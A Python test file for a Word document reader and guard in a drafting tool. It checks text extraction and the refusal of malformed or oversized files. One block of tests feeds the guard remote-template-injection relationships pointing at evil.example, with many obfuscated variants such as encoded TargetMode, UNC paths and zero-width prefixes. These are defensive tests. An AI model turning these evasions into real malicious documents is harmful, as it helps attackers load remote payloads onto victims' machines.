"""A Word document that somebody sent: what is read of it, and what is not let in."""

from __future__ import annotations

import pytest

from drafter.document.compilation import Shown, compiled
from drafter.document.outline import DocumentForm
from drafter.errors import BadInput
from drafter.formats.docx import guard, reader
from drafter.formats.docx.reader import WordParagraph
from drafter.formats.registry import render
from drafter.review.coverage import Selection
from tests import builders
from tests.formats.documents import document, full
from tests.formats.word_xml import made, relations, run


def texts(body: str) -> list[str]:
    return [paragraph.text for paragraph in reader.read(made(body), "a.docx")]


def test_paragraphs_come_with_their_styles_and_the_rows_that_they_stand_in() -> None:
    body = (
        f'<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr>{run("Head")}</w:p><w:p>{run("Text")}</w:p>'
        f"<w:tbl><w:tr><w:tc><w:p>{run('One')}</w:p></w:tc></w:tr><w:tr><w:tc><w:p>{run('Two')}</w:p>"
        f"<w:tbl><w:tr><w:tc><w:p>{run('Within')}</w:p></w:tc></w:tr></w:tbl></w:tc></w:tr></w:tbl>"
        f'<w:p><w:pPr><w:pStyle w:val="Nowhere"/></w:pPr></w:p>'
    )
    assert reader.read(made(body), "a.docx") == [
        WordParagraph("Head", "heading 1"),
        WordParagraph("Text", ""),
        WordParagraph("One", "", (1,)),
        WordParagraph("Two", "", (2,)),
        WordParagraph("Within", "", (2, 3)),
        WordParagraph("", "Nowhere"),
    ]


@pytest.mark.parametrize(
    ("body", "text"),
    [
        (f"<w:p><w:ins>{run('new ')}</w:ins><w:del><w:r><w:delText>old</w:delText></w:r></w:del>{run('end')}</w:p>",
         "new end"),
        (f"<w:p><w:moveFrom>{run('gone')}</w:moveFrom><w:moveTo>{run('come')}</w:moveTo></w:p>", "come"),
        (f"<w:p><w:sdt><w:sdtContent>{run('held')}</w:sdtContent></w:sdt></w:p>", "held"),
        (f"<w:sdt><w:sdtContent><w:p>{run('held')}</w:p></w:sdtContent></w:sdt>", "held"),
        (f"<w:p><w:hyperlink>{run('linked')}</w:hyperlink><w:smartTag>{run(' tagged')}</w:smartTag></w:p>",
         "linked tagged"),
        ("<w:p><w:r><w:t>one<!-- remark -->word</w:t><w:tab/><w:cr/><w:noBreakHyphen/></w:r></w:p>", "oneword  -"),
        ("<w:p><w:r><w:t>ﬁ &amp; [x]\u00a0ü</w:t></w:r></w:p>", "ﬁ & [x]\u00a0ü"),
    ],
)  # fmt: skip
def test_text_is_read_wherever_word_keeps_it(body: str, text: str) -> None:
    assert texts(body) == [text]


def test_an_export_is_read_paragraph_by_paragraph() -> None:
    found = reader.read(document(full(), ".docx", kinds=()), "a.docx")
    styles = {paragraph.style for paragraph in found}
    assert {"Title", "heading 1", "Operative Paragraph"} <= styles
    words = [paragraph.text for paragraph in found]
    assert all(any(text.startswith(block.text.split("\n")[0]) for text in words) for block in full().outline.paragraphs)


def test_a_relation_that_leads_nowhere_does_no_harm() -> None:
    data = made(f"<w:p>{run('Here')}</w:p>", {"word/_rels/document.xml.rels": relations("image", "NULL")})
    assert [paragraph.text for paragraph in reader.read(data, "a.docx")] == ["Here"]


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 locked", "asks for a password, or is a .doc of old"),
        (lambda: made("<w:ins>" * 300 + "</w:ins>" * 300), "nested too deeply"),
        (lambda: made("<w:p><w:r><w:t>" + "a" * 11_000_000 + "</w:t></w:r></w:p>"), "more than ten million signs"),
        (lambda: made("<w:p/>" * 3_100_000), "far more text than it should"),
        (lambda: made(parts={"word/document.xml": b"<?xml " + b" " * 300 + b"version='1.0' encoding='UTF-7'?><a/>"}),
         "not XML as Word writes it"),
        (lambda: made(parts={"word/document.xml": "<a/>".encode("utf-32-le")}), "not XML as Word writes it"),
        (lambda: made(parts={"[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                             b'content-types"><Default Extension="png" ContentType="application/&#120;ml"/></Types>'}),
         "part .png is not XML as Word writes it"),
        (lambda: made(parts={"_rels/.rels": relations("other", "word/document.xml")}), "a part that it needs is"),
    ],
    ids=["password", "deep", "one long text", "many paragraphs", "UTF-7", "UTF-32", "XML as a picture", "no document"],
)  # fmt: skip
def test_what_can_not_be_read_is_refused_by_name(data: object, what: str) -> None:
    assert callable(data)
    with pytest.raises(BadInput, match=rf"a\.docx: .*{what}"):
        reader.read(data(), "a.docx")


OUTSIDE = ' TargetMode="External"'
EVIL = "https://evil.example/t.dotm"
TEMPLATE = "attachedTemplate"
SETTINGS = "word/_rels/settings.xml.rels"
REMOTE = relations(TEMPLATE, EVIL, OUTSIDE)
PICTURE = '<w:p><w:drawing><a:blip xmlns:a="x" r:link="r1"/></w:drawing></w:p>'


@pytest.mark.parametrize(
    ("name", "part"),
    [
        (SETTINGS, relations(TEMPLATE, EVIL, ' TargetMode="&#69;xternal"')),
        (SETTINGS, relations(TEMPLATE, EVIL, ' TargetMode="external"')),
        (SETTINGS, relations(TEMPLATE, EVIL)),
        (SETTINGS, relations(TEMPLATE, EVIL, f' Other="a>b"{OUTSIDE}')),
        (SETTINGS, REMOTE.replace(b"<R", b"<p:R").replace(b"</R", b"</p:R").replace(b"xmlns=", b"xmlns:p=")),
        (SETTINGS, REMOTE.replace(b"<Relationship ", b"<x><Relationship ").replace(b"/></", b"/></x></")),
        (SETTINGS, REMOTE.decode().encode("utf-16")),
        (SETTINGS.replace(".rels", ".RELS"), REMOTE),
        (SETTINGS.replace(".rels", "%2Erels"), REMOTE),
        *((SETTINGS, relations(TEMPLATE, target, OUTSIDE)) for target in (
            r"\\host\t", "//host/t", r"\/host\t", "%5C%5Chost/t", "file:////host/t", r"file:///\\host\t", "ht&#9;tp://host/t",
            "&#x200B;HTTPS://host/t",
        )),
        (SETTINGS, REMOTE.replace(b"http://schemas", b"http://other").replace(TEMPLATE.encode(), b"hyperlink")),
        ("word/_rels/document.xml.rels", relations("hyperlink", EVIL, OUTSIDE)),
    ],
)  # fmt: skip
def test_what_only_word_would_fetch_is_refused_where_the_file_goes_on(name: str, part: bytes) -> None:
    data = made(f"<w:p>{run('Here')}</w:p>{PICTURE}", {name: part})
    assert [paragraph.text for paragraph in reader.read(data, "a.docx")][:1] == ["Here"]
    with pytest.raises(BadInput, match="on another machine"):
        guard.checked(data, "a.docx")


def test_links_and_what_lies_on_this_machine_are_not_fetched() -> None:
    link = f'<w:p><w:hyperlink r:id="r1">{run("Here")}</w:hyperlink></w:p>'
    linked = {"word/_rels/document.xml.rels": relations("hyperlink", EVIL, OUTSIDE)}
    assert guard.checked(made(link, linked), "a.docx")
    for target in ("Normal.dotm", "/word/t.dotm", r"c:\t.dotm", "file:///c:/t.dotm", "file:///home/t.dotm"):
        assert guard.checked(made(parts={SETTINGS: relations(TEMPLATE, target, OUTSIDE)}), "a.docx")


def test_parts_in_pieces_are_refused() -> None:
    with pytest.raises(BadInput, match="packed in a way"):
        guard.checked(made(parts={f"{SETTINGS}/[0].last.piece": REMOTE}), "a.docx")


def test_a_list_that_drafter_wrote_is_its_paragraphs() -> None:
    cover, annex = compiled(Shown.LIST, builders.corpus(), Selection(), {}, DocumentForm())
    lines = [paragraph.text for paragraph in reader.read(render(cover, ".docx", annexes=(annex,)), "m.docx")]
    assert lines[0] == "A mapping of the recommendations"
    assert "Protect victims [of all crimes]. [NO 1(b)]" in lines


@pytest.mark.parametrize("data", [b"", b"no zip", b"PK\x03\x04"])
def test_what_is_no_word_document_is_refused_by_name(data: bytes) -> None:
    with pytest.raises(BadInput, match=r"m\.docx: This can't be read as a Word document"):
        reader.read(data, "m.docx")
